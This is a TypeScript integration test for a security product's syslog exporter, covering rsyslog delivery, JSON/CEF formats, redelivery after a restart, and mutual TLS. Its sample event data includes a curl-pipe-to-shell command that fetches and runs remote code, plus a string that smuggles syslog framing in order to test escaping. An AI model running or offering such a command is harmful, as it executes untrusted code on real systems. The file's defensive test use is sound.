/** A real rsyslog takes what the syslog sink sends, and reads it as it was meant. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { examples } from "@pahlevan/exporters/examples.ts";
import { Outgoing } from "@pahlevan/exporters/record.ts";
import { syslog } from "@pahlevan/exporters/siem/syslog/sink.ts";
import { Authority, type Certificate } from "../../certificates.ts";
import { aroundOf, settingsOf } from "../../exporters/settings-of.ts";
import { Rsyslog, rsyslogMissing, type ServerTls } from "./syslog/rsyslog.ts";

const around = aroundOf();

const time = "2026-11-22T14:03:07.123456789Z";
const never = new AbortController().signal;
const why = await rsyslogMissing();

const records = (prefix: string) => examples(time, prefix).map((line) => Outgoing.of(line));
const ids = (rsyslog: Rsyslog) => rsyslog.taken().map(({ data }) => data["pahlevan@32473"]?.["id"]);

describe.skipIf(why !== undefined)(`rsyslog (${why ?? "real"})`, () => {
  it("reads each field of the structured data, and the sentence", async () => {
    await using rsyslog = await Rsyslog.start();
    const sink = syslog.make(
      settingsOf(syslog.keys, { url: `tcp://127.0.0.1:${rsyslog.port}` }),
      around,
    );
    const [decision, ...others] = examples(time);
    const object = `/tmp/"]\\\n<3>1 x = ü 😀`;
    const batch = [{ ...decision!, ...{ object } }, ...others].map((line) => Outgoing.of(line));
    expect(await sink.send(batch, never)).toEqual({ sent: 6, again: [], refused: {} });
    await expect.poll(() => rsyslog.taken()).toHaveLength(6);
    const [first, , third] = rsyslog.taken();
    expect(first).toMatchObject({
      ...{ pri: "83", time: "2026-11-22T14:03:07.123456Z", host: "node-1", app: "pahlevan" },
      msgid: "decision",
    });
    expect(first?.data["pahlevan@32473"]).toMatchObject({
      ...{ id: "example-1", time, action: "deny", cluster: "west", "process.pid": "4242" },
      object: object.replace("\n", "\\x0a"),
      "process.args": JSON.stringify(["sh", "-c", 'curl "http://203.0.113.9/x" | sh']),
    });
    expect(third?.msg).toMatch(
      /^\uFEFFshop\/checkout: checkout-policy goes from Enforcing to Quarantine: /,
    );
    await sink.close();
  });

  it("takes JSON and CEF as they are", async () => {
    await using rsyslog = await Rsyslog.start();
    const url = `tcp://127.0.0.1:${rsyslog.port}`;
    for (const format of ["json", "cef"]) {
      const sink = syslog.make(settingsOf(syslog.keys, { url, format }), around);
      await sink.send(records(format).slice(0, 1), never);
      await sink.close();
    }
    await expect.poll(() => rsyslog.taken()).toHaveLength(2);
    const messages = rsyslog.taken().map(({ msg }) => msg);
    const json = messages.find((message) => message.startsWith("{")) ?? "";
    expect(JSON.parse(json)).toMatchObject(examples(time, "json")[0]!);
    expect(messages.join("\n")).toMatch(/^CEF:0\|Pahlevan\|Pahlevan\|.*externalId=cef-1/m);
  });

  it("gets all that is sent after it was away, on the same sink", async () => {
    await using rsyslog = await Rsyslog.start();
    const sink = syslog.make(
      settingsOf(syslog.keys, { url: `tcp://127.0.0.1:${rsyslog.port}` }),
      around,
    );
    await sink.send(records("before"), never);
    await expect.poll(() => ids(rsyslog)).toHaveLength(6);
    await rsyslog.stop();
    const report = await sink.send(records("while"), never);
    expect(report).toMatchObject({ sent: 0, again: { length: 6 } });
    await rsyslog.restart();
    expect(await sink.send(report.again, never)).toMatchObject({ sent: 6 });
    await expect.poll(() => ids(rsyslog)).toHaveLength(12);
    expect(ids(rsyslog)).toEqual(
      [...records("before"), ...records("while")].map(({ line }) => line.id),
    );
    await sink.close();
  });

  describe("by TLS, with certificates on both sides", () => {
    let authority: Authority;
    let client: Certificate;
    let server: ServerTls;
    beforeAll(() => {
      authority = new Authority();
      client = authority.vouchesFor("DNS:node-1");
      const { certFile: cert, keyFile: key } = authority.vouchesFor("DNS:localhost");
      server = { ca: authority.ca.certFile, cert, key };
    });
    afterAll(() => authority[Symbol.dispose]());

    it("takes records from who has one, and outlives a restart", async () => {
      await using rsyslog = await Rsyslog.start(server);
      const { certFile, keyFile } = client;
      const files = { "ca-file": server.ca, "cert-file": certFile, "key-file": keyFile };
      const url = `tls://localhost:${rsyslog.port}`;
      const sink = syslog.make(settingsOf(syslog.keys, { url, ...files }), around);
      expect(await sink.check(never)).toContain("by TLS");
      expect(await sink.send(records("a"), never)).toMatchObject({ sent: 6 });
      await expect.poll(() => ids(rsyslog)).toHaveLength(6);
      await rsyslog.stop();
      await rsyslog.restart();
      expect(await sink.send(records("b"), never)).toMatchObject({ sent: 6 });
      await expect.poll(() => ids(rsyslog)).toHaveLength(12);
      await sink.close();
    });

    it("refuses who has none, and we say so", async () => {
      await using rsyslog = await Rsyslog.start(server);
      const url = `tls://localhost:${rsyslog.port}`;
      const sink = syslog.make(settingsOf(syslog.keys, { url, "ca-file": server.ca }), around);
      // It looks at certificates after we think that we are through: on a slow day after a while.
      await expect
        .poll(() => sink.check(never).catch((error: unknown) => String(error)))
        .toMatch(/ended the connection at once|certificate/);
      expect(rsyslog.taken()).toEqual([]);
      await sink.close();
    });

    it("is refused where we do not know who signed its certificate", async () => {
      await using rsyslog = await Rsyslog.start(server);
      const sink = syslog.make(
        settingsOf(syslog.keys, { url: `tls://localhost:${rsyslog.port}` }),
        around,
      );
      const report = await sink.send(records("a"), never);
      expect(report.sent).toBe(0);
      expect(report.why).toContain("certificate");
    });
  });
});
